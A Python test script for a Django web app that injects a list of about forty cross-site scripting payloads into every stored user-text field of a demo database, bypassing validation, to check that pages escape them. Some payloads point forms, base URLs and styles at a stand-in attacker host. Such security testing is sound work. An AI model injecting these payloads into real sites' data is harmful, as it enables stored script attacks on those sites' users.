"""Put hostile words into every stored text, past all validation: python -m tests.browser.poison N.

Run with the LECTERN_HOME of a running demo. What is a text is found by looking at the models: what
people may type, and what has words in it already. N shifts which text gets which of the words.
"""

from __future__ import annotations

import os
import sys
from typing import Any, Final

# Each sets a mark in the page when a browser takes any part of it for more than text.
HIT: Final = "document.documentElement.dataset.hit=1"
WORDS: Final = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f'"><img src=x onerror={HIT}>',
    f"'><svg onload={HIT}>",
    f'" autofocus onfocus={HIT} x="',
    f"' autofocus onfocus={HIT} x='",
    f"` onmouseover={HIT} `",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><script>{HIT}</script>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=javascript:{HIT}>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<marquee onstart={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}>",
    f"</textarea><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"[click](javascript:{HIT})",
    f"![x](x){{onerror={HIT}}}",
    f"<a href=javascript:{HIT}>x</a>",
    f"<link rel=stylesheet href='data:text/css,*{{x:{HIT}}}'>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    "<form action=//evil.example/><button>x",
    f"\u2028{HIT}//\u2029",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"<x style=animation-name:x onanimationstart={HIT}></x>",
)
# Texts that are no words of people: the code would stop before a page is made.
_NOT_WORDS: Final = frozenset(
    {"languages", "language", "time_zone", "accent", "colour", "country", "original_name"}
)


def hostile(value: Any, word: str) -> Any:
    """Return a JSON value with hostile words behind every text that has a space in it."""
    if isinstance(value, str):
        return f"{value} {word}" if " " in value else value
    if isinstance(value, dict):
        return {key: hostile(one, word) for key, one in value.items()}
    return [hostile(one, word) for one in value] if isinstance(value, list) else value


def _is_words(field: Any, old: Any, *, is_personal: bool) -> bool:
    """Tell whether a field holds what people type."""
    from django.db import models

    no_words = (models.EmailField, models.URLField, models.SlugField, models.FileField)
    is_text = isinstance(field, models.CharField | models.TextField)
    if not is_text or isinstance(field, no_words) or field.choices or field.unique:
        return False
    return field.name not in _NOT_WORDS and (is_personal or " " in old)


def _value(field: Any, old: Any, word: str, *, is_personal: bool) -> Any:
    """Return what a field holds then; what it held, where it holds no words of people."""
    from django.db import models

    from core.fields import TranslatedField

    if isinstance(field, TranslatedField):
        return {tag: f"{text} {word}"[:1000] for tag, text in (old or {}).items()}
    if isinstance(field, models.JSONField):
        return hostile(old, word)
    if not _is_words(field, old, is_personal=is_personal):
        return old
    room = (field.max_length or 2000) - len(word) - 1
    return f"{old[:room]} {word}".strip() if room > 0 else old


def _store(row: Any, name: str, value: Any) -> bool:
    """Write one field past the services; not where the database itself would not hold it."""
    from django.db import IntegrityError, transaction
    from django.utils import timezone

    values = {name: value}
    if any(field.name == "updated_at" for field in row._meta.concrete_fields):
        values["updated_at"] = timezone.now()
    try:
        with transaction.atomic():
            return bool(type(row)._default_manager.filter(pk=row.pk).update(**values))
    except IntegrityError:  # such as a reason for an answer that nobody gave
        return False


def poison(shift: int) -> tuple[int, int]:
    """Change all rows of all our models; return how many texts of how many fields."""
    from django.apps import apps
    from django.db import transaction

    texts, fields = 0, set()
    labels = ("accounts", "events", "registrations", "notifications")
    with transaction.atomic():
        for model in (one for label in labels for one in apps.get_app_config(label).get_models()):
            for row in model._default_manager.order_by("pk"):
                for name, value in _changes(row, shift):
                    if _store(row, name, value):
                        texts += 1
                        fields.add(f"{model._meta.label}.{name}")
    return texts, len(fields)


def _changes(row: Any, shift: int) -> list[tuple[str, Any]]:
    from core.privacy import marks_of

    marks = marks_of(type(row))
    found = []
    for place, field in enumerate(row._meta.concrete_fields):
        if field.is_relation or field.primary_key:
            continue
        if field.name.endswith(("_key", "email", "phone", "error")):
            continue
        old = getattr(row, field.attname)
        word = WORDS[(row.pk + place + shift) % len(WORDS)]
        new = _value(field, old, word, is_personal=marks.get(field.name) == "personal")
        if new != old:
            found.append((field.name, new))
    return found


if __name__ == "__main__":
    import django

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings.local")
    django.setup()
    sys.stdout.write("{} {}".format(*poison(int(sys.argv[1]))))
